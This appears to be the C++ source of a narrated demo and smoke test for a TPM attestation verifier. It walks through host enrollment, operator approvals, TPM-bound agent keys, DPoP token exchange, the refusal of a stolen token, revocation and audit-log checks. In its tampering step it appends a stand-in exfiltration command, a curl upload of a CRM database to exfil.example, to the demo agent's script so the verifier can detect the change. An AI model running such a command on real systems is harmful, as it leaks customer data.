// agentroot-demo: the narrated end-to-end demo client (and smoke test) that
// `make demo` runs against a real agentroot-verifier process.
//
// It plays every part except the verifier: machine-0 of a swtpm fleet (what
// hostd will do: enrollment, agent key in the TPM, measurement, quote, DPoP
// proofs), the operators (mutual TLS with their client certificates), a
// resource server (AccessTokenValidator with the verifier's JWKS fetched over
// HTTPS), and a thief on machine-1 holding a copy of the token. Each step
// prints one narrated line and the facts it rests on; every verdict printed
// comes from the verifier's responses or the validator's result. No token,
// EAR or private key is ever printed: tokens are named by jti, keys by
// RFC 7638 thumbprint.
//
// Exit status: 0 when every step behaved as expected; 1 (with "demo: FAILED:
// ..." on stderr) as soon as one did not; CLI11's codes for bad flags.
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <cctype>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <memory>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

#include "agentroot/attestation/access_token.h"
#include "agentroot/attestation/dpop.h"
#include "agentroot/attestation/measurement.h"
#include "agentroot/attestation/store/audit_chain.h"
#include "agentroot/attestation/tpm_public.h"
#include "agentroot/common/bytes.h"
#include "agentroot/common/clock.h"
#include "agentroot/common/json.h"
#include "agentroot/common/signer.h"
#include "agentroot/hsm/tpm/tpm_attestor.h"
#include "agentroot/hsm/tpm/tpm_device.h"
#include "agentroot/hsm/tpm/tpm_key_manager.h"
#include "agentroot/http/client.h"
#include "agentroot/simulators/tpm_fleet.h"

namespace {

namespace fs = std::filesystem;
namespace att = agentroot::attestation;
namespace common = agentroot::common;
namespace http = agentroot::http;
namespace tpm = agentroot::hsm::tpm;
using common::Bytes;
using common::Json;

// ------------------------------------------------------------------ output

struct DemoFailure : std::runtime_error {
  using std::runtime_error::runtime_error;
};

[[noreturn]] void Fail(const std::string& what) { throw DemoFailure(what); }

bool g_color = false;
int g_step = 1;
int g_checks = 0;

void Step(const std::string& title) {
  if (g_color) {
    std::printf("\n\033[1m== %d. %s\033[0m\n", g_step++, title.c_str());
  } else {
    std::printf("\n== %d. %s\n", g_step++, title.c_str());
  }
  std::fflush(stdout);
}

void Say(const std::string& line) {
  std::printf("   %s\n", line.c_str());
  std::fflush(stdout);
}

// A verdict that matched the expectation.
void Ok(const std::string& line) {
  ++g_checks;
  if (g_color) {
    std::printf("   \033[32mok\033[0m  %s\n", line.c_str());
  } else {
    std::printf("   ok  %s\n", line.c_str());
  }
  std::fflush(stdout);
}

template <typename T>
T Must(common::Result<T> result, const std::string& what) {
  if (!result.ok()) Fail(what + ": " + result.status().ToString());
  return std::move(result).value();
}

void Must(const common::Status& status, const std::string& what) {
  if (!status.ok()) Fail(what + ": " + status.ToString());
}

std::string Short(std::string_view s, std::size_t n = 16) {
  return s.size() <= n ? std::string(s) : std::string(s.substr(0, n)) + "…";
}

std::string Utc(int64_t unix_seconds) {
  std::time_t t = static_cast<std::time_t>(unix_seconds);
  std::tm tm{};
  gmtime_r(&t, &tm);
  char buf[32];
  std::strftime(buf, sizeof buf, "%H:%M:%S UTC", &tm);
  return buf;
}

std::string ReadFile(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) Fail("cannot read " + path.string());
  std::stringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

void WriteFile(const fs::path& path, const std::string& content) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out << content;
  if (!out) Fail("cannot write " + path.string());
}

std::string B64(const Bytes& b) { return common::Base64UrlEncode(b); }
Bytes UnB64(const Json& j, const char* name) {
  if (!j.contains(name) || !j[name].is_string()) Fail(std::string("response lacks \"") + name + "\"");
  return Must(common::Base64UrlDecode(j[name].get<std::string>()), std::string("\"") + name + "\" is not base64url");
}

std::string Sha256Hex(std::string_view data) { return common::HexEncode(common::Sha256(common::AsBytes(data))); }

// The claims of a JWS compact serialization (already verified by whoever
// issued it; the demo only reads them to print facts).
Json Claims(std::string_view jwt) {
  std::size_t a = jwt.find('.');
  std::size_t b = jwt.find('.', a == std::string_view::npos ? 0 : a + 1);
  if (a == std::string_view::npos || b == std::string_view::npos) Fail("not a JWS");
  Bytes payload = Must(common::Base64UrlDecode(jwt.substr(a + 1, b - a - 1)), "JWT payload");
  Json j = Json::parse(common::ToString(payload), nullptr, false);
  if (!j.is_object()) Fail("JWT payload is not a JSON object");
  return j;
}

// --------------------------------------------------------------- HTTP calls

Json Parse(const http::Response& r) {
  Json j = Json::parse(r.body, nullptr, false);
  return j.is_discarded() ? Json::object() : j;
}

// What a response says, for failure messages: never the body of a success
// (it may hold a token or an EAR), only problem / OAuth error fields.
std::string Describe(const http::Response& r) {
  std::string out = "HTTP " + std::to_string(r.status);
  Json j = Parse(r);
  for (const char* k : {"type", "detail", "error", "error_description"}) {
    if (j.contains(k) && j[k].is_string()) out += std::string(" ") + k + "=" + j[k].get<std::string>();
  }
  return out;
}

class Api {
 public:
  Api(std::string who, std::unique_ptr<http::HttpClient> client) : who_(std::move(who)), client_(std::move(client)) {}

  http::Response Get(const std::string& target) {
    return Must(client_->Get(target), who_ + ": GET " + target);
  }
  http::Response Post(const std::string& target, const Json& body) {
    return Must(client_->Post(target, body.dump()), who_ + ": POST " + target);
  }
  http::Response PostForm(const std::string& target, std::string form,
                          const std::vector<std::pair<std::string, std::string>>& headers = {}) {
    http::ClientRequest r;
    r.method = "POST";
    r.target = target;
    r.headers.emplace("Content-Type", "application/x-www-form-urlencoded");
    for (const auto& [k, v] : headers) r.headers.emplace(k, v);
    r.body = std::move(form);
    return Must(client_->Send(r), who_ + ": POST " + target);
  }
  // `call` must answer `status`, else the demo fails with what it got.
  static Json Expect(const http::Response& r, int status, const std::string& what) {
    if (r.status != status) Fail(what + ": expected HTTP " + std::to_string(status) + ", got " + Describe(r));
    return Parse(r);
  }

 private:
  std::string who_;
  std::unique_ptr<http::HttpClient> client_;
};

std::unique_ptr<Api> Connect(const std::string& who, const std::string& url, const std::string& ca_pem,
                             const fs::path& cert = {}, const fs::path& key = {}) {
  http::ClientOptions options;
  options.base_url = url;
  options.ca_pem = ca_pem;
  if (!cert.empty()) {
    options.client_certificate_chain_pem = ReadFile(cert);
    std::string key_pem = ReadFile(key);
    options.client_private_key_pem = common::SecretBytes(common::AsBytes(key_pem));
    std::fill(key_pem.begin(), key_pem.end(), '\0');
  }
  return std::make_unique<Api>(who, Must(http::HttpClient::Create(std::move(options)), who + ": HTTPS client"));
}

// ------------------------------------------------------------- the machine

// One fleet machine as hostd sees it: its TPM, its AK, its agent keys.
struct Machine {
  std::string name;
  std::shared_ptr<tpm::TpmDevice> device;
  std::unique_ptr<tpm::TpmAttestor> attestor;
  std::unique_ptr<tpm::TpmKeyManager> keys;
};

Machine OpenMachine(const agentroot::simulators::MachineInfo& info, const fs::path& state_root) {
  Machine m;
  m.name = info.name;
  tpm::TpmDeviceOptions options;
  options.tcti = info.tcti;
  m.device = Must(tpm::TpmDevice::Open(std::move(options)), info.name + ": open TPM at " + info.tcti);
  fs::path state = state_root / info.name;
  fs::create_directories(state);
  m.attestor = Must(tpm::TpmAttestor::Create(m.device, state), info.name + ": attestor");
  m.keys = Must(tpm::TpmKeyManager::Create(m.device, state), info.name + ": key manager");
  return m;
}

struct Options {
  std::string verifier_url;
  fs::path ca, operator_dir, fleet_json, state_dir;
  std::string infra = "carol", owner = "alice", reviewer = "bob", auditor = "audrey";
  std::string agent = "crm-bot", host_group = "crm-hosts", scope = "crm.read", audience = "https://crm.example";
  std::string resource_url = "https://crm.example/api/accounts";
  int first_step = 1;
};

// ------------------------------------------------------------------- demo

void RunDemo(const Options& o) {
  g_step = o.first_step;
  const common::Clock& clock = common::Clock::System();
  const std::string ca_pem = ReadFile(o.ca);
  auto fleet = Must(agentroot::simulators::FleetInfo::FromJson(ReadFile(o.fleet_json)), "fleet " + o.fleet_json.string());
  if (fleet.machines.size() < 2) Fail("the demo needs a fleet of at least 2 machines");
  fs::create_directories(o.state_dir);

  auto host_api = Connect("machine-0", o.verifier_url, ca_pem);  // hosts and agents: no client certificate
  auto op = [&](const std::string& name) {
    return Connect(name, o.verifier_url, ca_pem, o.operator_dir / (name + ".crt"), o.operator_dir / (name + ".key"));
  };
  auto infra = op(o.infra), owner = op(o.owner), reviewer = op(o.reviewer), auditor = op(o.auditor);

  Json metadata = Api::Expect(host_api->Get("/.well-known/oauth-authorization-server"), 200, "metadata");
  const std::string issuer = metadata.value("issuer", "");
  const std::string token_endpoint = metadata.value("token_endpoint", "");
  if (issuer.empty() || token_endpoint.empty()) Fail("metadata lacks issuer or token_endpoint");

  // The agent "binary" hostd will measure: a small file the demo writes.
  const fs::path exe = o.state_dir / o.agent;
  WriteFile(exe, "#!/bin/sh\n# " + o.agent + " v1.0: syncs CRM accounts\nexec crm-sync --read-only\n");
  const std::string exe_v1 = Sha256Hex(ReadFile(exe));

  // ---------------------------------------------------------------- a
  Step("machine-0 enrolls over HTTPS: EK certificate + EK + AK, MakeCredential, ActivateCredential");
  Say("verifier " + o.verifier_url + ": issuer " + issuer + ", token endpoint " + token_endpoint);
  Machine m0 = OpenMachine(fleet.machines[0], o.state_dir);
  {
    auto pcr = Must(m0.attestor->PcrRead({{tpm::kTpmAlgSha256, {att::kDefaultMeasurementPcr}}}), "read PCR 15");
    for (const auto& [_, v] : pcr) {
      if (v != Bytes(32, 0)) Fail("machine-0's PCR 15 is not in its reset state: start a fresh fleet");
    }
  }
  Bytes ek_cert = Must(m0.attestor->ReadEkCertificate(tpm::EkKind::kRsa2048), "read the EK certificate");
  Bytes ek_pub = Must(m0.attestor->ReadEkPublic(tpm::EkKind::kRsa2048), "read the EK public area");
  auto ak = Must(m0.attestor->CreateAk("ak"), "create the AK");
  Say("machine-0 TPM: EK certificate (NV 0x01c00002, sha256 " + Short(common::HexEncode(common::Sha256(ek_cert))) +
      "), new AK (ECC P-256, restricted signing, name " + Short(common::HexEncode(ak.name)) + ")");
  Json challenge = Api::Expect(host_api->Post("/v1/enroll", {{"ek_certificate", B64(ek_cert)},
                                                             {"ek_public", B64(ek_pub)},
                                                             {"ak_public", B64(ak.tpm2b_public)},
                                                             {"ek_intermediates_pem", ReadFile(fleet.manufacturer_intermediate)},
                                                             {"host_group", o.host_group}}),
                               200, "enroll");
  const std::string host = challenge.value("host_id", "");
  Bytes blob = UnB64(challenge, "credential_blob"), encrypted = UnB64(challenge, "encrypted_secret");
  Ok("verifier: EK chains to the manufacturer CA -> host id " + host + ", MakeCredential challenge (" +
     std::to_string(blob.size()) + "-byte credential blob) expiring " + Utc(challenge.value("expires_at", int64_t{0})));
  auto secret = Must(m0.attestor->ActivateCredential("ak", tpm::EkKind::kRsa2048, blob, encrypted),
                     "TPM2_ActivateCredential");
  Say("machine-0 TPM: ActivateCredential recovered the " + std::to_string(secret.Reveal().size()) +
      "-byte secret (only the TPM holding both this EK and this AK can)");
  Json activated = Api::Expect(
      host_api->Post("/v1/enroll/" + host + "/activate",
                     {{"activation_id", challenge.value("activation_id", "")},
                      {"secret", B64(Bytes(secret.Reveal().begin(), secret.Reveal().end()))}}),
      200, "activate");
  if (activated.value("status", "") != "pending") Fail("activation: expected status pending, got " + activated.dump());
  Ok("verifier: activation proven -> host " + host + " status " + activated.value("status", "") +
     " (group " + o.host_group + " is not auto-approved)");

  // ---------------------------------------------------------------- b
  Step("Governance over mutual TLS: infra approves the host, the owner registers " + o.agent + ", a reviewer approves it");
  Json approved = Api::Expect(infra->Post("/v1/hosts/" + host + "/approve", Json::object()), 200, "approve host");
  Ok(o.infra + " (infra, client certificate): host " + host + " -> " + approved.value("status", ""));
  const int64_t registration_expiry = clock.NowUnixSeconds() + 86400;
  Json created = Api::Expect(owner->Post("/v1/agents", {{"name", o.agent},
                                                        {"host_group", o.host_group},
                                                        {"scopes", {o.scope}},
                                                        {"audiences", {o.audience}},
                                                        {"max_token_ttl", 300},
                                                        {"expires_at", registration_expiry},
                                                        {"owners", {o.owner}}}),
                             201, "register agent");
  const std::string registered_id = created.value("id", "");
  if (registered_id.rfind("spiffe://", 0) != 0) Fail("register agent: unexpected id " + created.dump());
  Ok(o.owner + " (owner): registered " + registered_id + ", scope " + o.scope + ", audience " + o.audience +
     ", tokens <= 300 s, registration until " + Utc(registration_expiry) + " tomorrow");
  Json manifest = Api::Expect(owner->Post("/v1/agents/" + o.agent + "/manifests",
                                          {{"exe_sha256", exe_v1}, {"files", Json::object()}}),
                              201, "add manifest");
  const std::string version = std::to_string(manifest.value("version", int64_t{0}));
  Say(o.owner + ": manifest v" + version + " (executable sha256 " + Short(exe_v1) + ") -> " + manifest.value("status", ""));
  auto self_review = owner->Post("/v1/agents/" + o.agent + "/manifests/" + version + "/review", {{"approve", true}});
  if (self_review.status != 403) Fail("the owner reviewing their own manifest: expected 403, got " + Describe(self_review));
  Json problem = Parse(self_review);
  Ok(o.owner + " reviews her own manifest -> HTTP 403 " + problem.value("type", "") + ": " + problem.value("detail", ""));
  Json review = Api::Expect(reviewer->Post("/v1/agents/" + o.agent + "/manifests/" + version + "/review",
                                           {{"approve", true}, {"comment", "read-only CRM sync, reviewed"}}),
                            200, "review manifest");
  Ok(o.reviewer + " (reviewer, not an owner): manifest v" + version + " -> " + review.value("status", ""));

  // ---------------------------------------------------------------- c
  Step("hostd's job: agent key in machine-0's TPM, certified by the AK; measure, quote, attest");
  auto agent_key = Must(m0.keys->Generate(o.agent, agentroot::hsm::KeyPolicy{}), "create the agent key in the TPM");
  const std::string jkt = agent_key->public_jwk().Thumbprint();
  Say("machine-0 TPM: agent key created (ES256, fixedTPM|fixedParent: never leaves the TPM), thumbprint " + jkt);
  Json nonce = Api::Expect(host_api->Post("/v1/hosts/" + host + "/challenges", {{"purpose", "certify"}}), 201,
                           "certify challenge");
  std::string n = nonce.value("nonce", "");
  auto certified = Must(m0.attestor->Certify("ak", *agent_key, att::CertifyQualifyingData(common::AsBytes(n))),
                        "TPM2_Certify");
  Json key_reg = Api::Expect(host_api->Post("/v1/hosts/" + host + "/agent-keys",
                                            {{"agent_id", registered_id},
                                             {"nonce", n},
                                             {"key_public", B64(agent_key->native_public())},
                                             {"certify_attest", B64(certified.tpms_attest)},
                                             {"certify_signature", B64(certified.tpmt_signature)}}),
                             201, "register agent key");
  if (key_reg.value("thumbprint", "") != jkt) Fail("the verifier registered another key: " + key_reg.dump());
  Ok("verifier: TPM2_Certify by the host's AK checked -> key " + Short(jkt, 12) + " registered for " + o.agent);

  std::vector<att::MeasurementEvent> log;
  auto attest = [&](const std::string& exe_digest) {
    att::MeasurementEvent event;
    event.sequence = log.size() + 1;
    event.time = clock.NowUnixSeconds();
    event.agent_id = registered_id;
    event.pid = 4242;
    event.uid = 1001;
    event.exe_path = "/opt/agents/" + o.agent;
    event.exe_sha256_hex = exe_digest;
    Must(m0.attestor->PcrExtend(att::kDefaultMeasurementPcr, att::EventDigest(event)), "PCR extend");
    log.push_back(event);
    Say("hostd: measured " + event.exe_path + " (sha256 " + Short(exe_digest) + "), event #" +
        std::to_string(event.sequence) + " extended into PCR 15");
    Json c = Api::Expect(host_api->Post("/v1/hosts/" + host + "/challenges", {{"purpose", "attest"}}), 201,
                         "attest challenge");
    std::string attest_nonce = c.value("nonce", "");
    auto key_name = Must(att::TpmPublic::Parse(agent_key->native_public()), "agent key public area").name();
    std::vector<tpm::PcrBank> selection = {{tpm::kTpmAlgSha256, {0, att::kDefaultMeasurementPcr}}};
    auto quote = Must(m0.attestor->Quote("ak", selection,
                                         att::QualifyingData(common::AsBytes(attest_nonce), key_name,
                                                             att::EventDigest(event))),
                      "TPM2_Quote");
    auto values = Must(m0.attestor->PcrRead(selection), "PCR read");
    Json pcrs = Json::object();
    for (const auto& [bank_pcr, value] : values) pcrs[std::to_string(bank_pcr.second)] = common::HexEncode(value);
    Say("machine-0 TPM: quote of PCRs 0,15 by the AK over (nonce, agent key name, event digest)");
    return Api::Expect(host_api->Post("/v1/attest", {{"host_id", host},
                                                     {"agent_id", registered_id},
                                                     {"nonce", attest_nonce},
                                                     {"agent_key_public", B64(agent_key->native_public())},
                                                     {"quote_attest", B64(quote.tpms_attest)},
                                                     {"quote_signature", B64(quote.tpmt_signature)},
                                                     {"pcr_values", pcrs},
                                                     {"measurement_log", att::SerializeLog(log)}}),
                       200, "attest");
  };
  auto reasons_of = [](const Json& j, const char* name) {
    std::string out;
    if (j.contains(name) && j[name].is_array()) {
      for (const auto& r : j[name]) out += (out.empty() ? "" : ", ") + r.get<std::string>();
    }
    return out.empty() ? std::string("none") : out;
  };
  Json attested = attest(exe_v1);
  if (attested.value("status", "") != "affirming") {
    Fail("attestation: expected affirming, got " + attested.value("status", "") + " (" + reasons_of(attested, "reasons") + ")");
  }
  const std::string ear = attested.value("ear", "");
  Json ear_claims = Claims(ear);
  Ok("verifier: quote, log replay and manifest match -> EAR status " + attested.value("status", "") +
     ", bound to key " + Short(ear_claims["cnf"].value("jkt", ""), 12) + ", manifest v" +
     std::to_string(ear_claims.value("agentroot.manifest_version", 0)) + ", expires " +
     Utc(attested.value("expires_at", int64_t{0})));

  // ---------------------------------------------------------------- d
  Step("Token exchange: the EAR + a DPoP proof signed inside machine-0's TPM");
  auto token_form = [&](const std::string& subject_token) {
    return "grant_type=" + http::FormUrlEncode("urn:ietf:params:oauth:grant-type:token-exchange") +
           "&subject_token_type=" + http::FormUrlEncode("urn:ietf:params:oauth:token-type:jwt") + "&scope=" + http::FormUrlEncode(o.scope) +
           "&audience=" + http::FormUrlEncode(o.audience) + "&subject_token=" + http::FormUrlEncode(subject_token);
  };
  auto token_proof = [&](const common::Signer& key) {
    return Must(att::CreateDpopProof(key, "POST", token_endpoint, clock.NowUnixSeconds()), "DPoP proof");
  };
  Json issued = Api::Expect(host_api->PostForm("/oauth/token", token_form(ear), {{"DPoP", token_proof(*agent_key)}}),
                            200, "token exchange");
  const std::string token = issued.value("access_token", "");
  if (issued.value("token_type", "") != "DPoP" || token.empty()) Fail("token exchange: not a DPoP token");
  Json claims = Claims(token);
  const std::string jti = claims.value("jti", "");
  if (claims["cnf"].value("jkt", "") != jkt) Fail("the token is bound to another key");
  Ok("verifier: token issued, type " + issued.value("token_type", "") + ", jti " + jti + ", scope " +
     issued.value("scope", "") + ", expires in " + std::to_string(issued.value("expires_in", 0)) + " s (" +
     Utc(claims.value("exp", int64_t{0})) + ")");
  Say("token bound to the TPM key: cnf.jkt " + claims["cnf"].value("jkt", "") + " (the token itself is not printed)");

  // ---------------------------------------------------------------- e
  Step("A resource server (" + o.audience + ") checks the agent's request");
  auto jwks_client = Connect("resource server", o.verifier_url, ca_pem);
  auto jwks = std::make_shared<att::JwksCache>(
      [&jwks_client]() -> common::Result<std::string> {
        http::Response r = jwks_client->Get("/.well-known/jwks.json");
        if (r.status != 200) return common::UnavailableError("JWKS: " + Describe(r));
        return r.body;
      },
      clock, att::JwksCache::Options{});
  auto replay = std::make_shared<att::InMemoryReplayCache>(10000, clock);
  att::AccessTokenPolicy policy;
  policy.issuer = issuer;
  policy.audience = o.audience;
  auto validator = Must(att::AccessTokenValidator::Create(policy, jwks, replay, &clock), "validator");
  auto request_proof = [&](const common::Signer& key) {
    return Must(att::CreateDpopProof(key, "GET", o.resource_url, clock.NowUnixSeconds(), token), "DPoP proof");
  };
  const std::vector<std::string> agent_proof = {request_proof(*agent_key)};
  auto authorized = validator->Validate("DPoP " + token, agent_proof, "GET", o.resource_url, o.scope);
  if (!authorized.ok()) Fail("the agent's own request was refused: " + authorized.status().ToString());
  Ok("GET " + o.resource_url + " by " + o.agent + " on machine-0 -> authorized: sub " + authorized->subject +
     ", scopes " + o.scope + ", proof key " + Short(authorized->jkt, 12) + " = cnf.jkt (JWKS fetched " +
     std::to_string(jwks->fetch_count()) + "x over HTTPS)");

  // ---------------------------------------------------------------- f
  Step("The stolen token: copied to machine-1, another fleet machine with its own TPM");
  Machine m1 = OpenMachine(fleet.machines[1], o.state_dir);
  auto thief_key = Must(m1.keys->Generate("thief", agentroot::hsm::KeyPolicy{}), "machine-1 key");
  Say("machine-1 has the token and its own TPM key (" + Short(thief_key->public_jwk().Thumbprint(), 12) +
      "), but not machine-0's key");
  auto expect_refused = [&](const std::string& what, std::string_view authorization,
                            const std::vector<std::string>& proofs, std::string_view expected_error) {
    auto r = validator->Validate(authorization, proofs, "GET", o.resource_url, o.scope);
    if (r.ok()) Fail(what + ": was AUTHORIZED");
    std::string error(att::OAuthErrorOf(r.status()));
    if (!expected_error.empty() && error != expected_error) {
      Fail(what + ": expected " + std::string(expected_error) + ", got " + r.status().ToString());
    }
    Ok(what + " -> refused: " + std::string(r.status().message()));
  };
  expect_refused("token + DPoP proof signed by machine-1's TPM", "DPoP " + token, {request_proof(*thief_key)},
                 att::oauth_error::kInvalidDpopProof);
  expect_refused("token without a DPoP proof", "DPoP " + token, {}, att::oauth_error::kInvalidToken);
  expect_refused("token presented as a Bearer token", "Bearer " + token, {}, "");
  expect_refused("token + the agent's proof captured on the wire (replayed)", "DPoP " + token, agent_proof,
                 att::oauth_error::kInvalidDpopProof);

  // ---------------------------------------------------------------- g
  Step("The agent's binary changes on machine-0");
  WriteFile(exe, ReadFile(exe) + "curl -s https://exfil.example/upload -d @/var/lib/crm/accounts.db\n");
  const std::string exe_v2 = Sha256Hex(ReadFile(exe));
  Say(exe.filename().string() + " now hashes to " + Short(exe_v2) + " (the approved manifest says " + Short(exe_v1) + ")");
  Json attested2 = attest(exe_v2);
  if (attested2.value("status", "") != "contraindicated") {
    Fail("attestation of the changed binary: expected contraindicated, got " + attested2.value("status", ""));
  }
  Ok("verifier: EAR status " + attested2.value("status", "") + ", reasons: " + reasons_of(attested2, "reasons"));
  auto refused = host_api->PostForm("/oauth/token", token_form(attested2.value("ear", "")),
                                    {{"DPoP", token_proof(*agent_key)}});
  if (refused.status == 200) Fail("a token was issued for the changed binary");
  Json err = Parse(refused);
  Ok("token request with that EAR (proof by the right TPM key) -> HTTP " + std::to_string(refused.status) + " " +
     err.value("error", "") + ": " + err.value("error_description", ""));

  // ---------------------------------------------------------------- h
  Step("Revocation of the first token");
  Json before = Api::Expect(host_api->PostForm("/oauth/introspect", "token=" + http::FormUrlEncode(token)), 200, "introspect");
  if (!before.value("active", false)) Fail("introspection before revocation: inactive");
  Say("introspection of jti " + jti + ": active " + (before.value("active", false) ? "true" : "false") +
      " (a token issued before the change stays valid until revoked or expired)");
  Api::Expect(host_api->PostForm("/oauth/revoke", "token=" + http::FormUrlEncode(token)), 200, "revoke");
  Say("the token holder revokes it (POST /oauth/revoke, RFC 7009) -> HTTP 200");
  Json after = Api::Expect(host_api->PostForm("/oauth/introspect", "token=" + http::FormUrlEncode(token)), 200, "introspect");
  if (after.value("active", true)) Fail("introspection after revocation: still active");
  Ok("introspection of jti " + jti + ": active " + (after.value("active", true) ? "true" : "false"));

  // ---------------------------------------------------------------- i
  Step("The audit log, exported by an auditor over mutual TLS");
  auto denied = owner->Get("/v1/audit");
  if (denied.status != 403) Fail("the owner read the audit log: " + Describe(denied));
  Ok(o.owner + " (owner) asks for the log -> HTTP 403 " + Parse(denied).value("type", ""));
  http::Response exported = auditor->Get("/v1/audit");
  if (exported.status != 200) Fail("audit export: " + Describe(exported));
  att::store::AuditChainReport report = att::store::VerifyAuditChain(exported.body);
  if (!report.status.ok()) {
    Fail("the audit chain does not verify at line " + std::to_string(report.first_bad_line) + ": " +
         report.status.ToString());
  }
  std::map<std::string, int> decisions;
  std::istringstream lines(exported.body);
  for (std::string line; std::getline(lines, line);) {
    if (line.empty()) continue;
    Json rec = Json::parse(line, nullptr, false);
    if (rec.is_object()) decisions[rec.value("decision", "?")]++;
  }
  Ok(o.auditor + " (auditor): " + std::to_string(report.records_verified) + " records, hash chain verified (" +
     std::to_string(decisions["allow"]) + " allow, " + std::to_string(decisions["deny"]) + " deny, " +
     std::to_string(decisions["info"]) + " info), head #" + std::to_string(report.head.seq) + " " +
     Short(common::HexEncode(report.head.hash)));
  if (exported.body.find(token) != std::string::npos || exported.body.find(ear) != std::string::npos) {
    Fail("the audit log contains a whole token");
  }
  if (exported.body.find("\"" + jti + "\"") == std::string::npos) Fail("the audit log does not name the token's jti");
  Ok("the log names the token by jti " + Short(jti, 12) + " and never contains the token or the EAR");
}

}  // namespace

int main(int argc, char** argv) {
  // tss2 logs every TPM error response at warning level; the demo reports
  // failures itself.
  setenv("TSS2_LOG", "all+NONE", 0);
  CLI::App app{
      "agentroot-demo: the narrated end-to-end demo against a running agentroot-verifier.\n"
      "Plays machine-0 (enrollment, TPM agent key, measurement, quote, DPoP), the operators (mutual TLS),\n"
      "a resource server, and a thief on machine-1. Exits non-zero when any step does not behave as expected."};
  Options o;
  app.add_option("--verifier", o.verifier_url, "Verifier base URL, e.g. https://127.0.0.1:8443")->required();
  app.add_option("--ca", o.ca, "CA certificate of the verifier's TLS certificate (PEM)")->required()->check(CLI::ExistingFile);
  app.add_option("--operator-dir", o.operator_dir, "Directory with <operator>.crt and <operator>.key client credentials")
      ->required()
      ->check(CLI::ExistingDirectory);
  app.add_option("--infra", o.infra, "Operator with the infra role")->capture_default_str();
  app.add_option("--owner", o.owner, "Operator with the owner role (and reviewer, to show the self-review rule)")
      ->capture_default_str();
  app.add_option("--reviewer", o.reviewer, "Operator with the reviewer role")->capture_default_str();
  app.add_option("--auditor", o.auditor, "Operator with the auditor role")->capture_default_str();
  app.add_option("--fleet", o.fleet_json, "fleet.json of a running swtpm fleet (agentroot-sim tpm start), >= 2 machines")
      ->required()
      ->check(CLI::ExistingFile);
  app.add_option("--state-dir", o.state_dir, "Directory for the machines' key blobs and the agent binary")->required();
  app.add_option("--agent", o.agent, "Agent name")->capture_default_str();
  app.add_option("--host-group", o.host_group, "Host group machine-0 enrolls into")->capture_default_str();
  app.add_option("--first-step", o.first_step, "Number of the first narrated step")->capture_default_str();
  try {
    app.parse(argc, argv);
  } catch (const CLI::ParseError& e) {
    return app.exit(e);
  }
  g_color = isatty(STDOUT_FILENO) != 0;
  try {
    RunDemo(o);
  } catch (const DemoFailure& e) {
    std::fflush(stdout);
    std::fprintf(stderr, "\ndemo: FAILED: %s\n", e.what());
    return 1;
  } catch (const std::exception& e) {
    std::fflush(stdout);
    std::fprintf(stderr, "\ndemo: FAILED (unexpected exception): %s\n", e.what());
    return 1;
  }
  std::printf("\n   All %d checks behaved as expected.\n", g_checks);
  return 0;
}
